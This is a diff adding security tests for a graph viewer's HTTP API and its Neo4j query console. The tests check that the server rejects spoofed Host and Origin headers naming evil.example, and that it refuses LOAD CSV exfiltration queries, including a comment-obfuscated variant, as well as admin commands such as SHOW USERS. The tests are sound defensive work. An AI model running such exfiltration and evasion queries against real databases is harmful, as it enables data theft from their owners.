@@ -1,8 +1,11 @@
 /** The viewer's HTTP API (src/server): on the sample page's snapshot, and /api/query on a real Neo4j. */
 import { expect } from 'chai';
-import { request } from 'node:http';
+import { createServer, request } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { gunzipSync } from 'node:zlib';
 import { createViewerServer, type ViewerServer } from '../src/server/app.js';
+import { DEFAULT_CONSOLE_LIMITS } from '../src/server/query.js';
+import type { Neo4jStore } from '../src/store/neo4j-store.js';
 import type { GraphPayload, Meta, NamedQueryInfo, EventDetails, OrganizationDetails, PersonDetails, QueryResponse, Suggestion } from '../src/server/protocol.js';
 import type { GraphStore } from '../src/store/store.js';
 import { HOSTILE_KEY, HOSTILE_NAME, sampleNeo4j, sampleSnapshot } from './viewer-fixtures.js';
@@ -168,6 +171,38 @@ describe('viewer API on the snapshot', function () {
     expect(res.status).to.equal(403);
   });
 
+  it('answers only an exact loopback Host with its port', async () => {
+    const port = new URL(server.url).port;
+    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `LOCALHOST:${port}`, `[::1]:${port}`]) expect((await raw(server, '/api/meta', { host })).status, host).to.equal(200);
+    for (const host of [`127.evil.example:${port}`, '127.0.0.1.nip.io', `127.1.2.3.evil.example:${port}`, `localhost.evil.example:${port}`, `127.0.0.1:${Number(port) + 1}`, '127.0.0.1', 'localhost']) {
+      expect((await raw(server, '/api/meta', { host })).status, host).to.equal(403);
+    }
+  });
+
+  it('refuses cross-origin requests', async () => {
+    const port = new URL(server.url).port;
+    const origin = (o: string) => raw(server, '/api/meta', { origin: o });
+    expect((await origin(`http://127.0.0.1:${port}`)).status).to.equal(200);
+    for (const o of ['http://evil.example', 'null', `http://localhost:${port}`, `https://127.0.0.1:${port}`]) expect((await origin(o)).status, o).to.equal(403);
+    const res = await fetch(new URL('/api/query', server.url), {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', origin: 'http://evil.example' },
+      body: JSON.stringify({ name: 'events-of-person', params: { name: '张飞' } }),
+    });
+    expect(res.status).to.equal(403);
+  });
+
+  it('answers bad parameters with 400 and a short message, never 500', async () => {
+    for (const path of ['/%E0%A4%A', '/app.js%', '/api/search?q=a&q=b', '/api/search?q[a]=b', '/api/search?q=a&limit=-1', '/api/search?q=a&limit=abc', '/api/search?q=a&limit=1e9', '/api/node?key=a&key=b', '/api/meta?x=1']) {
+      const res = await raw(server, path, {});
+      expect(res.status, path).to.equal(400);
+      const { error } = JSON.parse(res.body.toString('utf8')) as { error: string };
+      expect(error, path).to.be.a('string').and.not.match(/\n|    at /);
+      expect(error.length, path).to.be.below(120);
+    }
+    expect((await get<Suggestion[]>(server, `/api/search?q=${encodeURIComponent('许昌')}&limit=2`)).body).to.have.length(2);
+  });
+
   it('serves the viewer with a content security policy, and nothing outside it', async () => {
     const page = await fetch(server.url);
     expect(page.status).to.equal(200);
@@ -181,7 +216,7 @@ describe('viewer API on the snapshot', function () {
 
 describe('viewer API on Neo4j', function () {
   this.timeout(180_000);
-  let store: GraphStore;
+  let store: Neo4jStore;
   let server: ViewerServer;
 
   before(async () => {
@@ -191,6 +226,123 @@ describe('viewer API on Neo4j', function () {
   after(async () => {
     await server?.close();
     await store?.close();
+  });
+
+  /** The transactions running a statement that holds `marker`. */
+  async function running(marker: string): Promise<string[]> {
+    const r = await store.client.query(
+      'SHOW TRANSACTIONS YIELD transactionId, currentQuery WHERE currentQuery CONTAINS $marker AND NOT currentQuery CONTAINS "SHOW" RETURN transactionId',
+      { marker },
+      true,
+    );
+    return r.rows.map((row) => String(row.transactionId));
+  }
+
+  /** A statement that keeps Neo4j busy for minutes unless stopped. */
+  const SLOW = (marker: string) => `UNWIND range(1, 5000000000) AS x WITH x WHERE x = -1 RETURN count(x) AS n // ${marker}`;
+
+  it('lets no console query make the server fetch a URL (exfiltration to a listener on 127.0.0.1)', async () => {
+    const hits: string[] = [];
+    const listener = createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.end('a,b\n');
+    });
+    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+    const url = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+    try {
+      for (const cypher of [
+        `LOAD CSV FROM '${url}/leak' AS row RETURN row`,
+        `MATCH (d:Document) WITH collect(d.id) AS ids LOAD CSV FROM '${url}/leak?' + ids[0] AS row RETURN row`,
+        `load csv with headers from '${url}/leak' as row return row`,
+        `CALL { LOAD/**/CSV FROM '${url}/leak' AS row RETURN row } RETURN row`,
+      ]) {
+        const { status, body } = await post<{ error: string }>(server, '/api/query', { cypher });
+        expect(status, cypher).to.equal(403);
+        expect(body.error).to.match(/not allowed/);
+      }
+      // Behind the console's allow-list, Neo4j itself (as scripts/neo4j.mjs configures it) fetches nothing from loopback.
+      let refused: Error | undefined;
+      await store.client.query(`LOAD CSV FROM '${url}/direct' AS row RETURN row`).catch((err: Error) => (refused = err));
+      expect(refused?.message).to.match(/blocked|not allowed|blocklist/i);
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      expect(hits).to.deep.equal([]);
+    } finally {
+      listener.close();
+    }
+  });
+
+  it('refuses administration and procedures outside the allow-list, and runs those in it', async () => {
+    for (const cypher of ['SHOW USERS', 'SHOW SETTINGS', 'CALL dbms.listConfig()', 'CALL dbms.listConnections()', 'CALL db.clearQueryCaches()', "TERMINATE TRANSACTIONS 'neo4j-transaction-1'", 'USE system SHOW DATABASES']) {
+      const { status, body } = await post<{ error: string }>(server, '/api/query', { cypher });
+      expect(status, cypher).to.equal(403);
+      expect(body.error, cypher).to.match(/not allowed/);
+    }
+    const labels = await post<QueryResponse>(server, '/api/query', { cypher: 'CALL db.labels() YIELD label RETURN label ORDER BY label' });
+    expect(labels.status).to.equal(200);
+    expect(labels.body.rows.map((r) => r.label)).to.include('Person');
+  });
+
+  it('sends at most its row and byte limits, saying so', async () => {
+    const limited = await createViewerServer({ store, consoleLimits: { ...DEFAULT_CONSOLE_LIMITS, maxRows: 100 } });
+    try {
+      const { status, body } = await post<QueryResponse>(limited, '/api/query', { cypher: 'UNWIND range(1, 1000000) AS x RETURN x' });
+      expect(status).to.equal(200);
+      expect(body.rows).to.have.length(100);
+      expect(body.rows[99]).to.deep.equal({ x: 100 });
+      expect(body.truncated).to.equal(true);
+      const few = await post<QueryResponse>(limited, '/api/query', { cypher: 'UNWIND range(1, 100) AS x RETURN x' });
+      expect(few.body.truncated).to.equal(false);
+    } finally {
+      await limited.close();
+    }
+    // Wide rows are cut by their size as well.
+    const narrow = await createViewerServer({ store, consoleLimits: { ...DEFAULT_CONSOLE_LIMITS, maxBytes: 10_000 } });
+    try {
+      const { body } = await post<QueryResponse>(narrow, '/api/query', { cypher: "UNWIND range(1, 1000) AS x RETURN x, reduce(s = '', i IN range(1, 100) | s + 'x') AS wide" });
+      expect(body.truncated).to.equal(true);
+      expect(body.rows.length).to.be.within(50, 120);
+    } finally {
+      await narrow.close();
+    }
+  });
+
+  it('stops a query at its time limit, in Neo4j too', async function () {
+    this.timeout(20_000);
+    const limited = await createViewerServer({ store, consoleLimits: { ...DEFAULT_CONSOLE_LIMITS, timeoutMs: 1000 } });
+    try {
+      const { status, body } = await post<{ error: string }>(limited, '/api/query', { cypher: SLOW('time-limit') });
+      expect(status).to.equal(504);
+      expect(body.error).to.match(/ran over 1 s/);
+      expect(await running('time-limit')).to.deep.equal([]);
+    } finally {
+      await limited.close();
+    }
+  });
+
+  it('cancels the query in Neo4j when its client goes away, as no fault of the server', async function () {
+    this.timeout(30_000);
+    const faults: Error[] = [];
+    const watched = await createViewerServer({ store, onError: (err) => faults.push(err) });
+    const controller = new AbortController();
+    const request = fetch(new URL('/api/query', watched.url), {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ cypher: SLOW('client-gone') }),
+      signal: controller.signal,
+    }).catch(() => null);
+    try {
+      while ((await running('client-gone')).length === 0) await new Promise((resolve) => setTimeout(resolve, 100));
+      controller.abort();
+      await request;
+      const deadline = Date.now() + 5000;
+      while ((await running('client-gone')).length && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100));
+      expect(await running('client-gone')).to.deep.equal([]);
+      expect(faults).to.deep.equal([]);
+    } finally {
+      await watched.close();
+      const left = await running('client-gone');
+      if (left.length) await store.client.query('TERMINATE TRANSACTIONS $ids', { ids: left }, true);
+    }
   });
 
   it('reads the same graph as the snapshot', async () => {
